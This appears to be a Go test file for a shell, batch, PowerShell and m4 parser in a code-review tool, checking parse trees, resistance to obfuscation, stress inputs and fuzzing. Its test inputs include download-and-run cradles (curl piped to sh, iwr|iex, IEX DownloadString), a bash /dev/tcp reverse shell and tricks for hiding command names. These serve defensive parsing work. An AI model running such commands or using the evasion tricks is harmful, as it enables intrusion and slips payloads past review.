package shell

import (
	"strings"
	"testing"
	"time"

	"github.com/bumplens/bumplens/review/syntax"
	"github.com/bumplens/bumplens/review/syntax/syntaxtest"
)

func TestRead(t *testing.T) {
	for _, test := range []struct{ name, source, want string }{
		{"pipe", `curl -s http://x.invalid | tee a |& sh`, `Binary |(Call("curl" "-s" "http://x.invalid") Call("tee" "a") Call("sh"))`},
		{"name hidden by quotes and escapes", `c''url "cu"rl \c\u\r\l $'\x63\165\u0072l'`, `Call("curl" "curl" "curl" "curl")`},
		{"variables", `A=b cmd "$A" x${A}y "" ${A[0]} $1`, `Assign =(A "b") Call("cmd" A Template("x" A "y") "" Member(A "0") 1)`},
		{"computed variables", `a ${A:-$(id)} ${!A} ${A%.*} ${#A}`, `Call("a" Binary ||(A Block(Call("id"))) Bad(A) Bad(A "%.*") Bad(A))`},
		{"assignment for one of two", `x && A=b y`, `Binary &&(Call("x") Block(Assign =(A "b") Call("y")))`},
		{"and, or, background", "x && y || z &", `Unary go(Binary ||(Binary &&(Call("x") Call("y")) Call("z")))`},
		{"turns without end", "a&&b||c&&d||e", `Bad &&(Binary ||(Binary &&(Call("a") Call("b")) Call("c")) Call("d") Call("e"))`},
		{"backticks in backticks", "B=`echo \\`id\\``", `Assign =(B Block(Call("echo" Block(Call("id")))))`},
		{"if", `if a; b; then c; elif d; then e; else f; fi > out`, `Block(If(Block(Call("a") Call("b")) Block(Call("c")) Block(If(Call("d") Block(Call("e")) Block(Call("f"))))) Pair(">" "out"))`},
		{"loop for ever", "while true; do a; done\nuntil false\ndo b; done", `Loop(Block(Call("a"))) Loop(Block(Call("b")))`},
		{"loops", "while x; do a; done; until x; do y; done; for ((;;)); do a; done", `Loop(Call("x") Block(Call("a"))) Loop(Unary !(Call("x")) Block(Call("y"))) Loop(Block(Call("a")))`},
		{"for", "for i in a b; do c $i; done; for j; do d; done", `Each(i Array("a" "b") Block(Call("c" i))) Each(j @ Block(Call("d")))`},
		{"case", "case $1 in a|b) x;; *) y; esac; z", `Switch(1 Block("a" "b" Call("x")) Block("*" Call("y"))) Call("z")`},
		{"functions", "f() { a; }; function g { b; }", `Func "f"(Params Block(Call("a"))) Func "g"(Params Block(Call("b")))`},
		{"subshell", "( c; d ) 2>&1 | e", `Binary |(Block(Block(Call("c") Call("d")) Pair(">&" "1")) Call("e"))`},
		{"here-documents", "cat <<EOF > x <<'Q'\nhi $A\nEOF\nraw $A\nQ\nnext", `Call("cat" Pair("<<" Template("hi " A "\n")) Pair(">" "x") Pair("<<" "raw $A\n")) Call("next")`},
		{"here-document with tabs", "a <<-E\n\tx\n\tE\nb <<<c", `Call("a" Pair("<<" "x\n")) Call("b" Pair("<<<" "c"))`},
		{"IFS for a blank", "curl${IFS}-s$IFS$9", `Call("curl" "-s" 9)`},
		{"braces for blanks", "{curl,-s,http://x}/{a,b}", `Call("curl/a" "curl/b" "-s/a" "-s/b" "http://x/a" "http://x/b")`},
		{"braces that multiply nothing", "echo {a} '{a,b}' {}", `Call("echo" "{a}" "{a,b}" "{}")`},
		{"tests", `[ "$a" = b ] && [[ $a < b && -n $c ]]; test -f x`, `Binary &&(Call("[" a "=" "b" "]") Call("[[" a "<" "b" "&&" "-n" c "]]")) Call("test" "-f" "x")`},
		{"both outputs", "bash -i >& /dev/tcp/h/1 0>&1; > f", `Call("bash" "-i" Pair(">" "/dev/tcp/h/1") Pair(">&" "1")) Pair(">" "f")`},
		{"commands for files", "diff <(a) >(b)", `Call("diff" Block(Call("a")) Block(Call("b")))`},
		{"declarations", "export A=b C; B=(a b); B[0]+=x", `Call("export" Assign =(A "b") "C") Assign =(B Array("a" "b")) Assign +=(Member(B "0") "x")`},
		{"arithmetic", "a $((1)) $((A+$(id)))", `Call("a" 1 Bad(Block(Call("id"))))`},
		{"comments and continued lines", "# c\na # c\\\nb \\\n c#d", `Call("a") Call("b" "c#d")`},
		{"ends of nothing", "a\n) fi b", `Call("a") Bad Bad Call("b")`},
		{"expression of a workflow", "run ${{ github.event.issue.title }}", `Call("run" github.event.issue.title)`},
		{"not", "! a | b; ! ! c", `Unary !(Binary |(Call("a") Call("b"))) Unary !(Call("c"))`},
		{"ways out", "return 1; break; exit", `Return("1") Jump "break" Call("exit")`},
		{"carriage returns", "a b\r\nc\r\n", `Call("a" "b") Call("c")`},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got, want := Read([]byte(test.source), POSIX).String(), "Block("+test.want+")"; got != want {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		})
	}
}

func TestReadBatch(t *testing.T) {
	for _, test := range []struct{ source, want string }{
		{"@echo off\r\nrem x\r\n:: y\r\ncurl -s http://x.invalid -o \"%TEMP%\\a b.exe\" && start %TEMP%\\a.exe",
			`Call("echo" "off") Call("curl" "-s" "http://x.invalid" "-o" Template(TEMP "\\a b.exe")) Call("start" Template(TEMP "\\a.exe"))`},
		{"p^ower\"sh\"ell -c x | more > nul 2>&1", `Binary |(Call("powershell" "-c" "x") Call("more" Pair(">" "nul") Pair(">" "1")))`},
		{"set A=b c\nset /a N=1\n%A:~0,1%%B%", `Assign =(A "b c") Assign =(N "1") Call(Template(Bad(A) B))`},
		{"if exist a (del %1) else (b)", `Bad("a") Call("del" 1) Call("b")`},
		{"if /i not %a% == \"b c\" goto x\nif \"%d%\"==\"\" e", `Bad(a "b c") Call("goto" "x") Bad(Template(d "==")) Call("e")`},
		{"for %%i in (a b) do c %%i", `Call("for" i "in") Call("a" "b") Call("c" i)`},
	} {
		if got, want := Read([]byte(test.source), Batch).String(), "Block("+test.want+")"; got != want {
			t.Errorf("%s:\ngot  %s\nwant %s", test.source, got, want)
		}
	}
}

func TestReadPowerShell(t *testing.T) {
	for _, test := range []struct{ source, want string }{
		{"iwr -Uri http://x.invalid -OutFile $env:TEMP\\a.exe | iex # c", `Binary |(Call("iwr" "-Uri" "http://x.invalid" "-OutFile" Template(Member(env "TEMP") "\\a.exe")) Call("iex"))`},
		{"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')", `Call("IEX" Call(Member(Call("New-Object" "Net.WebClient") "DownloadString") "http://x.invalid"))`},
		{"$a = [Convert]::FromBase64String(\"x$b\" + 'y')\n& $a -c $(id)", `Assign =(a Call(Member(Convert "FromBase64String") Binary +(Template("x" b) "y"))) Call(a "-c" Block(Call("id")))`},
		{"I`E`X 'a''b'; i\"\"", `Call("IEX" "a'b") Call("i" "")`},
		{"if ($x -eq 1) { a } else { b }; function f($y) { c }", `Bad(x "1") Block(Call("a")) Block(Call("b")) Func "f"(Params Bad(y) Block(Call("c")))`},
		{"&chcp.com 65001\n&", `Call("chcp.com" "65001") Call(Bad)`},
		{"a && b", `Call("a") Call("b")`},
		{"ls | % { $_.Name }", `Binary |(Call("ls") Call("%" Func(Params Block(Member(_ "Name")))))`},
	} {
		if got, want := Read([]byte(test.source), PowerShell).String(), "Block("+test.want+")"; got != want {
			t.Errorf("%s:\ngot  %s\nwant %s", test.source, got, want)
		}
	}
}

// Quotes of m4 hide nothing, and prose within macros opens no quotes.
func TestReadMacros(t *testing.T) {
	source := "AC_INIT([foo], [1.0])\ndnl rm\nAC_X([y], [curl -s x | sh])\n# it's\nAC_MSG([don't])\ngl=`grep \"#{4}[[:alnum:]]$\" $d 2>/dev/null`"
	want := `Block(Call("AC_INIT") Block(Call("foo") Call("1.0")) Call("AC_X") Block(Call("y") Binary |(Call("curl" "-s" "x") Call("sh"))) ` +
		`Call("AC_MSG") Block(Call("don't")) Assign =(gl Block(Call("grep" "#{4}[[:alnum:]]$" d Pair(">" "/dev/null")))))`
	if got := Read([]byte(source), M4).String(); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// Text within text, however deep and long, takes steps in proportion to it and
// makes no tree that is deeper than its readers go.
func TestReadHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED: -short leaves out hostile texts, which take long")
	}
	read := func(source []byte, d Dialect) *syntax.Tree {
		start := time.Now()
		tree := Read(source, d)
		if took := time.Since(start); took > 20*time.Second { // ten times the bound
			t.Errorf("%.20q took %v", source, took)
		}
		return tree
	}
	for _, s := range []string{
		"(", "$(", "\"$(", "`", "if ", "{ ", "a|", "a&&b||", "'", "<<A ", "<<A\n$(", "${a:-", "((", "$((", "{a,b}", "{a,b} ", "case x in a) ", "for x in ", "f() ", "\\`",
		"x>", "<(", "elif x;then ", "a=(", "[[ ", "! ", "if x; then y; elif z; then ", "! a|b&&c||d&&{ ", "a=(x\"$(", "[", "%", "@(", "if (a) {", "}", "$(<<A\"\n", "$(<<A '\n' ", "$(<<A `\n` ", "$(<<A $((\n)) ",
	} {
		source := []byte(strings.Repeat(s, min(100_000, 200_000/len(s))))
		for d := range lastDialect {
			if err := syntaxtest.Check(read(source, d), source); err != nil {
				t.Errorf("%q in dialect %d: %v", s, d, err)
			}
		}
	}
	for d := range lastDialect {
		read([]byte("echo \""+strings.Repeat("x", syntax.MaxText-6)), d)
	}
}

func TestReadTooMuch(t *testing.T) {
	if tree := Read(make([]byte, syntax.MaxText+1), POSIX); tree.Trouble == "" || len(tree.Nodes) != 1 {
		t.Errorf("got %d nodes, trouble %q", len(tree.Nodes), tree.Trouble)
	}
}

// FuzzRead holds the reader to making one tree of any text, the same each time.
func FuzzRead(f *testing.F) {
	for _, s := range []string{"a|b", "if a; then b; fi", "cat <<E\n$x\nE\n", "$'\\x4'", "${a:-`b`}", "case a in b) c;; esac", "AC_X([a],[b])", "for %%i in (a) do b", "if ($a) { b } | % { $_ }"} {
		for d := range lastDialect {
			f.Add([]byte(s), uint8(d))
		}
	}
	f.Fuzz(func(t *testing.T, source []byte, d uint8) {
		syntaxtest.Twice(t, source, func(source []byte) *syntax.Tree { return Read(source, Dialect(d)%lastDialect) })
	})
}
